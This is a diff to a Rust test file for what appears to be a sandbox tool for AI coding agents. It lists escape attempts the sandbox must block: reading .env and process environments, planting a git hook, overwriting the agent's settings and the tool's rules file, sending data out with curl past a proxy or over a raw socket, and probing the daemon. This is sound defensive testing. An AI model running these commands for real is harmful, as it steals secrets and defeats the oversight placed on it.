@@ -113,16 +113,52 @@ fn attempts(kit: &Bailiwick, origin: &Origin, listener: &Listener, socket: &Path
         at("cat .env".into(), "ENV-OF-DANA"),
         at("python3 -c \"print(open('.env').read())\"".into(), "ENV-OF-DANA"),
         at("cp .env copy.txt; cat copy.txt; rm -f copy.txt".into(), "ENV-OF-DANA"),
-        at("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'".into(), "VARIABLE-OF-DANA"),
-        at(format!("echo x > ~/outside.txt && echo x > {}/outside.txt && echo WROTE-OUTSIDE", state.display()), "WROTE-OUTSIDE"),
-        at("echo 'touch owned' > .git/hooks/pre-commit && echo WROTE-HOOK".into(), "WROTE-HOOK"),
+        at(
+            "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'".into(),
+            "VARIABLE-OF-DANA",
+        ),
+        at(
+            format!(
+                "echo x > ~/outside.txt && echo x > {}/outside.txt && echo WROTE-OUTSIDE",
+                state.display()
+            ),
+            "WROTE-OUTSIDE",
+        ),
+        at(
+            "echo 'touch owned' > .git/hooks/pre-commit && echo WROTE-HOOK".into(),
+            "WROTE-HOOK",
+        ),
         at("mv .git .g && mv .g .git && echo MOVED-GIT".into(), "MOVED-GIT"),
-        at("git config core.hooksPath /tmp/h && echo WROTE-CONFIG".into(), "WROTE-CONFIG"),
-        at("echo '{}' > .claude/settings.json && echo WROTE-SETTINGS".into(), "WROTE-SETTINGS"),
-        at("echo '[files]' >> bailiwick.toml && echo WROTE-RULES".into(), "WROTE-RULES"),
-        at("printf x > new.toml && mv new.toml bailiwick.toml && echo MOVED-RULES".into(), "MOVED-RULES"),
-        at(format!("curl -s -m 5 --data stolen {} && echo SENT-BY-CURL", origin.url("/drop")), "SENT-BY-CURL"),
-        at(format!("curl -s -m 5 --noproxy '*' --data stolen {} && echo SENT-PAST-PROXY", origin.url("/drop")), "SENT-PAST-PROXY"),
+        at(
+            "git config core.hooksPath /tmp/h && echo WROTE-CONFIG".into(),
+            "WROTE-CONFIG",
+        ),
+        at(
+            "echo '{}' > .claude/settings.json && echo WROTE-SETTINGS".into(),
+            "WROTE-SETTINGS",
+        ),
+        at(
+            "echo '[files]' >> bailiwick.toml && echo WROTE-RULES".into(),
+            "WROTE-RULES",
+        ),
+        at(
+            "printf x > new.toml && mv new.toml bailiwick.toml && echo MOVED-RULES".into(),
+            "MOVED-RULES",
+        ),
+        at(
+            format!(
+                "curl -s -m 5 --data stolen {} && echo SENT-BY-CURL",
+                origin.url("/drop")
+            ),
+            "SENT-BY-CURL",
+        ),
+        at(
+            format!(
+                "curl -s -m 5 --noproxy '*' --data stolen {} && echo SENT-PAST-PROXY",
+                origin.url("/drop")
+            ),
+            "SENT-PAST-PROXY",
+        ),
         at(
             format!(
                 "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1',{}),5); s.send(b'stolen'); print('SENT-BY-SOCKET')\"",
@@ -130,9 +166,22 @@ fn attempts(kit: &Bailiwick, origin: &Origin, listener: &Listener, socket: &Path
             ),
             "SENT-BY-SOCKET",
         ),
-        at(format!("curl -s -m 5 --unix-socket {} http://x/ ; echo; test -S {} && echo SAW-SOCKET", socket.display(), socket.display()), "SAW-SOCKET"),
-        at("test -S ~/.local/state/bailiwick/daemon.sock && echo SAW-DAEMON".into(), "SAW-DAEMON"),
-        at("ps -eo args | grep -v grep | grep -q 'daemon run' && echo SAW-PROCESS; for p in /proc/[0-9]*; do grep -aq 'daemon' $p/cmdline && echo SAW-PROCESS; done".into(), "SAW-PROCESS"),
+        at(
+            format!(
+                "curl -s -m 5 --unix-socket {} http://x/ ; echo; test -S {} && echo SAW-SOCKET",
+                socket.display(),
+                socket.display()
+            ),
+            "SAW-SOCKET",
+        ),
+        at(
+            "test -S ~/.local/state/bailiwick/daemon.sock && echo SAW-DAEMON".into(),
+            "SAW-DAEMON",
+        ),
+        at(
+            "for p in /proc/[0-9]*; do grep -aqE 'd[a]emon.run' $p/cmdline && echo SAW-PROCESS; done".into(),
+            "SAW-PROCESS",
+        ),
     ]
 }
 
